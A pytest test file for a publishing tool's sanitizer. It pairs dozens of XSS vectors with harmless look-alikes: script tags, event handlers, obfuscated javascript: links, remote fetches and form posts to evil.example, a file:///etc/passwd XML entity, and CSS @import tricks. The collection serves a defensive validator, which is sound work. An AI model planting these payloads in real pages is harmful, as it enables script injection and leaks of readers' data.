"""Nothing that runs, leads astray or fetches from elsewhere is left on a page, in a drawing or in a style sheet."""

from dataclasses import dataclass

import pytest

from publishing.core import addresses
from publishing.outputs import look, markup, policy, styles
from publishing.outputs.tags import Tag, of_html, of_xml


@dataclass(frozen=True)
class Vector:
    """What somebody may try, where it is tried, a word of the message; its twin is what an author may well write."""

    name: str
    places: str
    bad: str
    says: str
    good: str


#: Everywhere a piece of HTML may turn up: a web page, the book that WeasyPrint reads, a page of the EPUB.
ALL = 'page book epub'
VECTORS = (
    # what runs
    Vector('script', ALL, '<script>alert(1)</script>', 'script', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'),
    Vector('script of a stranger', ALL, '<script src="https://evil.example/x.js"></script>', 'script', '<p>x.js</p>'),
    Vector('script of an author', 'page', '<script src="_downloads/1/x.js"></script>', '_downloads/1/x.js',
           '<script src="../_static/doctools.js?v=9bcbadda"></script>'),
    Vector('script beside ours', 'page', '<script src="_static/../_downloads/doctools.js"></script>', 'script',
           '<script src="searchindex.js" defer="defer"></script>'),
    Vector('words in a script of ours', 'page', '<script src="_static/doctools.js">alert(1)</script>', 'script',
           '<script src="_static/doctools.js"></script>'),
    Vector('script as a module', ALL, '<script type="module" src="data:text/javascript,alert(1)"></script>', 'script',
           '<p>data:text/javascript</p>'),
    Vector('capitals', ALL, '<SCRIPT>alert(1)</SCRIPT>', '', '<p>SCRIPT</p>'),
    Vector('handler', ALL, '<p onclick="alert(1)">x</p>', 'onclick', '<p title="onclick=alert(1)">x</p>'),
    Vector('handler of a picture', ALL, '<img src="x.png" alt="" onerror="alert(1)" />', 'onerror',
           '<img src="x.png" alt="onerror=" />'),
    Vector('handler with a slash', 'page book', '<img/src="x"/onerror="alert(1)" />', 'reads alike',
           '<img src="x/onerror.png" alt="" />'),
    Vector('handler in a drawing', ALL, '<svg onload="alert(1)"></svg>', 'onload',
           '<svg><title>onload</title></svg>'),
    Vector('handler nobody knows yet', ALL, '<p onbeforetoggle="alert(1)">x</p>', 'onbeforetoggle',
           '<p lang="on">x</p>'),
    Vector('handler of details', ALL, '<details ontoggle="x()" open="open"></details>', 'ontoggle',
           '<details open="open"><summary>x</summary></details>'),
    Vector('expression', 'book epub', '<p style="width: expression(alert(1))">x</p>', 'expression',
           '<p style="width: calc(10% + 1em)">x</p>'),
    Vector('binding', 'book epub', '<p style="-moz-binding: url(x.xml)">x</p>', '-moz-binding',
           '<p style="color: #123456">x</p>'),
    # where links lead
    Vector('javascript', ALL, '<a href="javascript:alert(1)">x</a>', 'javascript:alert(1)',
           '<a href="https://example.org/javascript:alert(1)">x</a>'),
    Vector('javascript in capitals', ALL, '<a href="JaVaScRiPt:alert(1)">x</a>', 'leads to',
           '<a href="#javascript:x">x</a>'),
    Vector('javascript in entities', ALL, '<a href="&#106;avascript&#58;alert(1)">x</a>', 'leads to',
           '<a href="page.html?q=a:b">x</a>'),
    Vector('javascript with a named colon', 'page book', '<a href="javascript&colon;alert(1)">x</a>', 'leads to',
           '<a href="page.html#a:b">x</a>'),
    Vector('javascript in percents', ALL, '<a href="javascript%3Aalert(1)">x</a>', 'leads to',
           '<a href="a%20b.html">x</a>'),
    Vector('javascript encoded twice', ALL, '<a href="javascript%253Aalert(1)">x</a>', 'leads to',
           '<a href="a%2520b.html">x</a>'),
    Vector('javascript with a tab', ALL, '<a href="java&#9;script:alert(1)">x</a>', 'leads to',
           '<a href="a/b:c.html">x</a>'),
    Vector('javascript on two lines', ALL, '<a href="java&#10;script:alert(1)">x</a>', 'leads to',
           '<a href="../a.html">x</a>'),
    Vector('javascript behind a control sign', 'page book', '<a href="&#1;javascript:alert(1)">x</a>', 'leads to',
           '<a href="mailto:a@example.org">x</a>'),
    Vector('javascript behind blanks', ALL, '<a href="   javascript:alert(1)">x</a>', 'leads to',
           '<a href=" a.html">x</a>'),
    Vector('javascript with an unseen sign', ALL, '<a href="java\u200bscript:alert(1)">x</a>', 'leads to',
           '<a href="pārrobežu.html">x</a>'),
    Vector('vbscript', ALL, '<a href="vbscript:msgbox(1)">x</a>', 'vbscript', '<a href="vbscript.html">x</a>'),
    Vector('data', ALL, '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', 'data:',
           '<a href="data/index.html">x</a>'),
    Vector('file', ALL, '<a href="file:///etc/passwd">x</a>', 'file:', '<a href="files/list.pdf">x</a>'),
    Vector('blob', ALL, '<a href="blob:https://example.org/1">x</a>', 'blob:',
           '<a href="http://example.org/1">x</a>'),
    Vector('a host without scheme', ALL, '<a href="//evil.example/">x</a>', 'evil', '<a href="a//b.html">x</a>'),
    Vector('a host with backslashes', ALL, '<a href="\\\\evil.example\\x">x</a>', 'evil', '<a href="#x">x</a>'),
    Vector('link of a drawing', ALL, '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 'leads to',
           '<svg><a xlink:href="https://example.org/"><text>x</text></a></svg>'),
    Vector('link of a quotation', ALL, '<blockquote cite="javascript:alert(1)">x</blockquote>', 'leads to',
           '<blockquote cite="https://example.org/">x</blockquote>'),
    Vector('link of a formula', ALL, '<math href="javascript:alert(1)"><mi>x</mi></math>', '<math>',
           '<math><mi>x</mi></math>'),
    Vector('another window', ALL, '<a href="https://example.org" target="_blank">x</a>', 'target',
           '<a href="https://example.org" rel="noopener">x</a>'),
    Vector('ping', ALL, '<a href="https://example.org" ping="https://evil.example">x</a>', 'ping',
           '<a href="https://example.org">ping</a>'),
    # what is fetched
    Vector('picture of a stranger', ALL, '<img src="https://evil.example/x.png" alt="" />', 'fetches',
           '<img src="../_images/x.png" alt="" />'),
    Vector('picture of the machine', ALL, '<img src="/etc/passwd" alt="" />', 'fetches',
           '<img src="etc/x.png" alt="" />'),
    Vector('picture by scheme', ALL, '<img src="file:///etc/passwd" alt="" />', 'fetches',
           '<img src="x-y.png" alt="" />'),
    Vector('picture in a list', ALL, '<img src="x.png" srcset="y.png 1x, https://evil.example/z.png 2x" alt="" />',
           'z.png', '<img src="x.png" srcset="y.png 1x, z.png 2x" alt="" />'),
    Vector('picture of a drawing', ALL, '<svg><image href="https://evil.example/x.png" /></svg>', 'fetches',
           '<svg><image href="x.png" /></svg>'),
    Vector('use of elsewhere', ALL, '<svg><use href="https://evil.example/x.svg#a" /></svg>', 'same drawing',
           '<svg><use href="#a" /></svg>'),
    Vector('use of a file', ALL, '<svg><use xlink:href="x.svg#a" /></svg>', 'same drawing',
           '<svg><use xlink:href="#a" /></svg>'),
    Vector('paint from elsewhere', ALL, '<svg><path fill="url(https://evil.example/x.svg#a)" /></svg>', 'fetches',
           '<svg><path fill="url(#a)" /></svg>'),
    Vector('paint in escapes', ALL, '<svg><path fill="u\\72 l(https://evil.example/x.svg#a)" /></svg>', 'fetches',
           '<svg><path fill="currentColor" transform="rotate(90)" /></svg>'),
    Vector('style from elsewhere', ALL, '<link rel="stylesheet" href="https://evil.example/x.css" />', 'fetches',
           '<link rel="stylesheet" href="_static/x.css" />'),
    Vector('relation that fetches', ALL, '<link rel="prefetch" href="https://evil.example/" />', 'prefetch',
           '<link rel="next" href="a.html" />'),
    Vector('attached file', ALL, '<link rel="attachment" href="file:///etc/passwd" />', 'attachment',
           '<link rel="license" href="https://creativecommons.org/" />'),
    Vector('link that attaches', ALL, '<a rel="attachment" href="x.txt">x</a>', 'attaches',
           '<a rel="next" href="x.html">x</a>'),
    Vector('style that fetches', 'book epub', '<p style="background: url(https://evil.example/x.png)">x</p>',
           'fetched', '<p style="background: url(x.png)">x</p>'),
    Vector('style of the page that fetches', 'book epub', '<style>@import "https://evil.example/x.css";</style>',
           'fetched', '<style>.page-ref::after { content: "https://evil.example/" }</style>'),
    # what holds or sends something else
    Vector('refresh', ALL, '<meta http-equiv="refresh" content="0; url=https://evil.example" />', 'refresh',
           '<meta name="description" content="refresh" />'),
    Vector('refresh in capitals', ALL, '<meta http-equiv=" Refresh " content="0" />', 'refresh',
           '<meta charset="utf-8" />'),
    Vector('policy of another', 'page', '<meta http-equiv="Content-Security-Policy" content="default-src *" />',
           'policy', policy.meta()),
    Vector('base', ALL, '<base href="https://evil.example/" />', '<base>', '<p>base</p>'),
    Vector('base of a drawing', 'epub', '<svg xml:base="https://evil.example/"></svg>', 'xml:base', '<svg></svg>'),
    Vector('frame', ALL, '<iframe src="a.html"></iframe>', '<iframe>', '<p>iframe</p>'),
    Vector('frame with a page inside', ALL, '<iframe srcdoc="x"></iframe>', '<iframe>', '<p title="srcdoc">x</p>'),
    Vector('object', ALL, '<object data="x.svg"></object>', '<object>', '<p>object</p>'),
    Vector('embed', ALL, '<embed src="x.svg" />', '<embed>', '<p>embed</p>'),
    Vector('applet', ALL, '<applet code="x.class"></applet>', '<applet>', '<p>applet</p>'),
    Vector('portal, and whatever comes', ALL, '<portal src="x"></portal>', '<portal>', '<p>portal</p>'),
    Vector('template', ALL, '<template><p>x</p></template>', '<template>', '<p>template</p>'),
    Vector('film', ALL, '<video poster="https://evil.example/x.png"></video>', '<video>', '<p>video</p>'),
    Vector('foreign object', ALL, '<svg><foreignObject><p>x</p></foreignObject></svg>', 'foreignobject',
           '<svg><text>foreignObject</text></svg>'),
    Vector('animation', ALL,
           '<svg><a href="#"><animate attributeName="href" values="javascript:alert(1)" /></a></svg>', '<animate>',
           '<svg><a href="#x"><text>x</text></a></svg>'),
    Vector('set', ALL, '<svg><set attributeName="onclick" to="alert(1)" /></svg>', '<set>', '<svg><g></g></svg>'),
    Vector('handler of a formula', ALL, '<math><maction actiontype="statusline"><mi>x</mi></maction></math>',
           '<maction>', '<math><mrow><mi>x</mi></mrow></math>'),
    Vector('HTML in a formula', ALL, '<math><annotation-xml encoding="text/html"><mi>x</mi></annotation-xml></math>',
           'annotation-xml', '<math><semantics><mi>x</mi><annotation>x</annotation></semantics></math>'),
    Vector('form to elsewhere', 'page', '<form action="https://evil.example/" method="get"></form>', 'sends',
           '<form action="search.html" method="get"></form>'),
    Vector('form by a script', 'page', '<form action="javascript:alert(1)"></form>', 'sends',
           '<form action=""></form>'),
    Vector('form that posts', 'page', '<form action="" method="post"></form>', 'sends what readers write',
           '<form method="GET" action=""></form>'),
    Vector('form in a book', 'epub', '<form action=""></form>', '<form>', '<p>form</p>'),
    Vector('button to elsewhere', 'page', '<button formaction="https://evil.example/">x</button>', 'formaction',
           '<button type="submit">x</button>'),
    Vector('password', 'page', '<input type="password" name="p" />', 'password', '<input type="search" name="q" />'),
    # style in a web page, which its policy would not apply
    Vector('style attribute', 'page', '<p style="position: fixed; inset: 0">x</p>', 'style of its own',
           '<p class="a">x</p>'),
    Vector('style element', 'page', '<style>p { color: red }</style>', 'style sheet in the page', '<p>style</p>'),
    # what programs do not read alike
    Vector('tag in an attribute', 'page book', '<a title="<img src=x onerror=alert(1)>">x</a>', 'reads alike',
           '<a title="&lt;img src=x onerror=alert(1)&gt;">x</a>'),
    Vector('out of a title', 'page book', '<title><a title="</title><img src=x onerror=alert(1)>"></a></title>',
           'reads alike', '<title>&lt;/title&gt;</title>'),
    Vector('behind a comment', 'page book', '<!--><img src=x onerror=alert(1)>-->', '', '<!-- a comment -->'),
    Vector('behind another comment', 'page book', '<!-- --!><img src="x" onerror="alert(1)"> -->', '',
           '<!-- a -- b -->'),
    Vector('conditional comment', 'page book', '<!--[if IE]><script>alert(1)</script><![endif]-->', '',
           '<!--[if IE] -->'),
    Vector('half a tag', 'page book', '<img src="x.png" onerror="alert(1)"', 'reads alike', 'a &lt; b'),
    Vector('no words in a tag', 'page book', '<a href="x" "onclick="alert(1)">x</a>', 'reads alike',
           '<a href="x">x</a>'),
    Vector('instruction', 'page book', '<?xml-stylesheet href="x.xsl"?>', 'reads alike', '<p>&lt;?xml</p>'),
    Vector('instruction for a program', 'epub', '<?xml-stylesheet href="x.xsl"?>', 'for a program', '<p>xml</p>'),
    Vector('not well-formed', 'epub', '<p>x', 'well-formed', '<p>x</p>'),
    Vector('section that is text to one', 'page book', '<![CDATA[<img src=x onerror=alert(1)>]]>', 'reads alike',
           'CDATA'),
)  # fmt: skip

XHTML = '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink"><body>{}</body></html>'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
KINDS = {'page': look.PAGE, 'book': markup.BOOK}
ROWS = [pytest.param(one, place, id=f'{one.name}, {place}') for one in VECTORS for place in one.places.split()]


def found(piece, place):
    if place == 'epub':
        for name, space in (('svg', 'http://www.w3.org/2000/svg'), ('math', 'http://www.w3.org/1998/Math/MathML')):
            piece = piece.replace(f'<{name}', f'<{name} xmlns="{space}"')
        return [str(one) for one in markup.faults(of_xml(XHTML.format(piece).encode()), markup.EPUB)]
    page = f'<!DOCTYPE html>\n<html lang="en"><body>\n{piece}\n</body></html>'
    return [str(one) for one in look.page(page, KINDS[place])]


@pytest.mark.parametrize(('vector', 'place'), ROWS)
def test_what_somebody_tries_is_named(vector, place):
    said = ' '.join(found(vector.bad, place))
    assert said and vector.says.lower() in said.lower()
    assert '; expected ' in said


@pytest.mark.parametrize(('vector', 'place'), ROWS)
def test_what_an_author_writes_is_let_through(vector, place):
    assert found(vector.good, place) == []


DRAWINGS = {
    'script': ('<script>alert(1)</script>', '<text>alert(1)</text>'),
    'handler': ('<path onload="alert(1)"/>', '<path d="M0 0"/>'),
    'link': ('<a href="javascript:alert(1)"><text>x</text></a>', '<a href="https://example.org"><text>x</text></a>'),
    'HTML': ('<body xmlns="http://www.w3.org/1999/xhtml"/>', '<desc>body</desc>'),
    'HTML that runs': ('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>', '<metadata/>'),
    'picture of a stranger': (
        '<image href="https://evil.example/x.png"/>',
        '<image href="data:image/png;base64,iVBORw0="/>',
    ),
    'picture that is a page': ('<image href="data:image/svg+xml;base64,PHN2Zz4="/>', '<image href="x.png"/>'),
    'style from elsewhere': (
        '<style>@import url(//evil.example/x.css);</style>',
        '<style>.a { fill: url(#b) }</style>',
    ),
    'font from elsewhere': (
        '<style>@font-face { src: url(https://evil.example/f.woff) }</style>',
        '<style>@namespace svg url(http://www.w3.org/2000/svg); text { font-family: serif }</style>',
    ),
    'use of elsewhere': ('<use xlink:href="https://evil.example/x.svg#a"/>', '<use xlink:href="#a"/>'),
    'two addresses': ('<use href="#a" xlink:href="https://evil.example/x.svg#a"/>', '<use href="#a" xlink:href="#a"/>'),
    'animation': ('<animate attributeName="href" to="javascript:alert(1)"/>', '<g/>'),
    'handler of SVG Tiny': ('<handler type="application/ecmascript">alert(1)</handler>', '<title>handler</title>'),
    'filter from elsewhere': ('<feImage href="https://evil.example/x.png"/>', '<feImage href="#a"/>'),
    'words of a drawing program': (
        '<g xmlns:ink="http://www.inkscape.org/namespaces/inkscape" ink:label="x" onclick="alert(1)"/>',
        '<g xmlns:ink="http://www.inkscape.org/namespaces/inkscape" ink:label="x" ink:onclick="alert(1)"/>',
    ),
}  # fmt: skip


@pytest.mark.parametrize('name', DRAWINGS)
def test_drawings_only_draw(name):
    bad, good = (list(markup.faults(of_xml(SVG.format(one).encode()), markup.DRAWING)) for one in DRAWINGS[name])
    assert bad and good == []


def test_a_drawing_declares_nothing_of_its_own():
    declared = (
        b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
    )
    named = (
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    )
    [fault] = markup.faults(of_xml(declared), markup.DRAWING)
    assert 'entities' in str(fault)
    assert list(markup.faults(of_xml(named), markup.DRAWING)) == []


STYLES = {
    'import': ('@import "https://evil.example/x.css";', '@import "tokens.css";'),
    'import by url': ('@import url(//evil.example/x.css);', '@import url("../tokens.css");'),
    'picture': ('a { background: url(https://evil.example/x.png) }', 'a { background: url(x.png) }'),
    'picture in escapes': ('a { background: u\\72l("https://evil.example/x") }', 'a { content: "url(https://x)" }'),
    'set of pictures': (
        'a { background: image-set("https://evil.example/x" 1x) }',
        'a { background: image-set("x" 1x) }',
    ),
    'picture inside': ('@media print { a { b: url( "data:text/html,x" ) } }', '@media print { a { b: none } }'),
    'behaviour': ('a { behavior: url(x.htc) }', 'a { color: red }'),
    'file of the machine': ('@font-face { src: url(file:///etc/passwd) }', '@font-face { src: url("fonts/a.woff2") }'),
    'split by a comment': ('@import/**/"https://evil.example/x";', '/* @import "https://x"; */ a { b: c }'),
}  # fmt: skip


@pytest.mark.parametrize('name', STYLES)
def test_style_sheets_fetch_what_lies_beside_them(name):
    bad, good = (list(styles.faults(css)) for css in STYLES[name])
    assert bad and good == []


@pytest.mark.parametrize(
    'address', ['https://example.org', 'HTTP://EXAMPLE.ORG', 'mailto:a@b', 'a.html', '#a', '?q=a:b', '']
)
def test_where_links_may_lead(address):
    assert addresses.may_lead(address)


@pytest.mark.parametrize(
    'address', ['ftp://a', 'tel:1', 'javascript:1', '//a', '/a', '\\a', 'C:\\a', 'data:,', 'about:blank']
)
def test_where_links_may_not_lead(address):
    assert not addresses.may_lead(address)


def test_tags_have_their_lines_and_decoded_values():
    tags = list(of_html('<!DOCTYPE html>\n<p>a\n<a href=x&amp;y TITLE="a\nb">\n<br/>'))
    assert tags == [Tag('p', {}, 2), Tag('a', {'href': 'x&y', 'title': 'a\nb'}, 3), Tag('br', {}, 5)]


def test_a_fault_says_where_it_stands_what_was_found_and_what_to_do():
    [fault] = look.page('<!DOCTYPE html>\n<p>\n<iframe></iframe>', look.PAGE)
    assert (fault.line, str(fault)) == (
        3,
        'an element <iframe>; expected only what readers see. Take it out where it was written.',
    )
